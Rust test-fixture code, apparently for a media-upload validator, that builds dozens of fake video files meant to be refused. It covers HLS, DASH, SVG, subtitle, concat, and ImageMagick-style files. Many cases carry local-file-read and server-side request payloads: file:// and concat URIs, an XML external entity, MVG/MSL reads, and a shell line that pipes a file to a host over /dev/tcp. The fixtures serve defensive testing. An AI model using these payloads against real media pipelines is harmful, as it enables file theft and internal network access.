//! Playlists, scripts and markup that make a player open something else.

use crate::corpus::{Case, Expect, NOT_MEDIA};

/// Text files; `path` must not be read, `host` must not be called.
pub(crate) fn cases(path: &str, host: &str) -> Vec<Case> {
    texts(path, host)
        .into_iter()
        .map(|(name, text)| Case::new(format!("text/{name}"), text, Expect::Refused(NOT_MEDIA)))
        .collect()
}

fn texts(path: &str, host: &str) -> Vec<(&'static str, String)> {
    let hls = |uri: &str| {
        format!(
            "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n\
             #EXTINF:10.0,\n{uri}\n#EXT-X-ENDLIST\n"
        )
    };
    let svg = |href: &str| {
        format!(
            "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" \
             xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"640\" height=\"360\">\
             <image xlink:href=\"{href}\" width=\"640\" height=\"360\"/></svg>\n"
        )
    };
    vec![
        ("hls-file.mp4", hls(&format!("file://{path}"))),
        ("hls-path.avi", hls(path)),
        ("hls-http.mkv", hls(&format!("http://{host}/a.ts"))),
        ("hls-concat.avi", hls(&format!("concat:http://{host}/head|file://{path}"))),
        ("hls-subfile.avi", hls(&format!("subfile,,start,0,end,64,,:{path}"))),
        ("hls-crypto.mp4", hls(&format!("crypto+file://{path}"))),
        ("hls-data.mp4", hls("data:text/plain;base64,AAAA")),
        ("hls-tcp.mp4", hls(&format!("tcp://{host}"))),
        ("hls-udp.mp4", hls(&format!("udp://{host}"))),
        ("hls-pipe.mp4", hls("pipe:0")),
        ("hls-fd.mp4", hls("fd:0")),
        ("hls-gopher.mp4", hls(&format!("gopher://{host}/1"))),
        ("hls-async.mp4", hls(&format!("async:cache:http://{host}/a"))),
        (
            "hls-key.mp4",
            format!(
                "#EXTM3U\n#EXT-X-TARGETDURATION:4\n\
                 #EXT-X-KEY:METHOD=AES-128,URI=\"http://{host}/key\"\n#EXTINF:4,\nfile://{path}\n"
            ),
        ),
        (
            "hls-map.mp4",
            format!(
                "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXT-X-MAP:URI=\"file://{path}\"\n\
                 #EXTINF:4,\nhttp://{host}/1.m4s\n#EXT-X-ENDLIST\n"
            ),
        ),
        (
            "hls-master.mp4",
            format!("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{host}/variant.m3u8\n"),
        ),
        ("hls-lowercase.mkv", format!("#extm3u\r\n#EXT-X-TARGETDURATION:1\r\nhttp://{host}/\r\n")),
        (
            "hls-bom.mp4",
            format!("\u{feff}#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nhttp://{host}/\n"),
        ),
        ("m3u.avi", format!("#EXTM3U\n#EXTINF:-1,Radio\nhttp://{host}/stream\n")),
        (
            "dash.mp4",
            format!(
                "<?xml version=\"1.0\"?>\n<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" \
                 type=\"static\" mediaPresentationDuration=\"PT10S\" minBufferTime=\"PT1S\" \
                 profiles=\"urn:mpeg:dash:profile:isoff-on-demand:2011\"><Period><AdaptationSet \
                 mimeType=\"video/mp4\"><Representation id=\"1\" bandwidth=\"1\" width=\"64\" \
                 height=\"64\"><BaseURL>http://{host}/v.mp4</BaseURL></Representation>\
                 </AdaptationSet></Period></MPD>\n"
            ),
        ),
        (
            "dash-file.mkv",
            format!(
                "<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"dynamic\"><Period>\
                 <AdaptationSet><Representation id=\"1\"><BaseURL>file://{path}</BaseURL>\
                 <SegmentTemplate media=\"$Number$\" duration=\"1\"/></Representation>\
                 </AdaptationSet></Period></MPD>\n"
            ),
        ),
        (
            "dash-entity.mp4",
            format!(
                "<?xml version=\"1.0\"?><!DOCTYPE MPD [<!ENTITY x SYSTEM \"file://{path}\">]>\
                 <MPD><Period><BaseURL>&x;</BaseURL></Period></MPD>\n"
            ),
        ),
        (
            "smooth.mp4",
            format!(
                "<?xml version=\"1.0\"?><SmoothStreamingMedia MajorVersion=\"2\" Duration=\"1\">\
                 <StreamIndex Type=\"video\" Url=\"http://{host}/Q({{bitrate}})\"/>\
                 </SmoothStreamingMedia>\n"
            ),
        ),
        (
            "sdp.mp4",
            "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n\
             m=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
                .into(),
        ),
        (
            "sdp-connect.avi",
            format!(
                "v=0\no=- 0 0 IN IP4 0\ns=x\nc=IN IP4 {host}\nt=0 0\nm=video 9 TCP/RTP/AVP 33\n"
            ),
        ),
        ("concat.mp4", format!("ffconcat version 1.0\nfile '{path}'\n")),
        (
            "concat-http.avi",
            format!("ffconcat version 1.0\nfile http://{host}/a.ts\nduration 10\n"),
        ),
        ("concat-options.mkv", format!("ffconcat version 1.0\nfile {path}\noption safe 0\n")),
        (
            "imf.mp4",
            format!(
                "<?xml version=\"1.0\"?><CompositionPlaylist xmlns=\"http://www.smpte-ra.org/schemas/2067-3/2016\"><Id>urn:uuid:{host}</Id></CompositionPlaylist>\n"
            ),
        ),
        ("svg-http.mp4", svg(&format!("http://{host}/a.png"))),
        ("svg-file.avi", svg(&format!("file://{path}"))),
        ("svg-text.mkv", svg(&format!("text:{path}"))),
        ("mvg.mp4", format!("push graphic-context\nimage over 0,0 0,0 'https://{host}/'\n")),
        ("msl.mp4", format!("<?xml version=\"1.0\"?><image><read filename=\"{path}\"/></image>\n")),
        ("srt.mp4", format!("1\n00:00:01,000 --> 00:00:02,000\n<img src=http://{host}/>{path}\n")),
        (
            "webvtt.mkv",
            format!(
                "WEBVTT\n\nSTYLE\n::cue {{ background: url(http://{host}/) }}\n\n00:01.000 --> 00:02.000\n{path}\n"
            ),
        ),
        (
            "ass.avi",
            format!(
                "[Script Info]\nScriptType: v4.00+\nVideo File: {path}\n[Fonts]\nfontname: {path}\n\
                 [Events]\nDialogue: 0,0:00:00.00,0:00:05.00,D,,0,0,0,,x\n"
            ),
        ),
        ("mpl2.mkv", format!("[0][10]/{path}\n[10][20]x\n")),
        ("sami.mp4", format!("<SAMI><BODY><SYNC Start=0><P><IMG SRC=\"http://{host}/\"></SAMI>\n")),
        (
            "vobsub.avi",
            format!(
                "# VobSub index file, v7 (do not modify this line!)\n# {path}\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n"
            ),
        ),
        ("lrc.mp4", format!("[ti:x]\n[00:01.00]{path}\n")),
        (
            "asx.wmv",
            format!("<ASX version=\"3\"><ENTRY><REF HREF=\"http://{host}/\"/></ENTRY></ASX>\n"),
        ),
        (
            "smil.mov",
            format!("SMILtext<smil><body><video src=\"http://{host}/\"/></body></smil>\n"),
        ),
        ("rtsptext.mov", format!("RTSPtext\nrtsp://{host}/movie.mov\n")),
        ("pls.mp4", format!("[playlist]\nFile1=http://{host}/\nNumberOfEntries=1\n")),
        ("reference.asf", format!("[Reference]\nRef1=http://{host}/a.asf\n")),
        ("avisynth.avi", format!("AviSource(\"{path}\")\n")),
        ("vapoursynth.mp4", format!("import vapoursynth\nopen('{path}')\n")),
        ("lavfi.mp4", format!("movie=filename={path}[out0]\n")),
        ("ffmetadata.mkv", format!(";FFMETADATA1\ntitle={path}\n[CHAPTER]\nSTART=0\nEND=1\n")),
        ("html.mp4", format!("<!doctype html><video src=\"http://{host}/\"></video>\n")),
        ("shell.mp4", format!("#!/bin/sh\ncat {path} > /dev/tcp/{}\n", host.replace(':', "/"))),
        ("json.mp4", format!("{{\"url\":\"http://{host}/\",\"file\":\"{path}\"}}\n")),
        ("nothing-but-lines.mp4", "\n".repeat(70_000)),
    ]
}
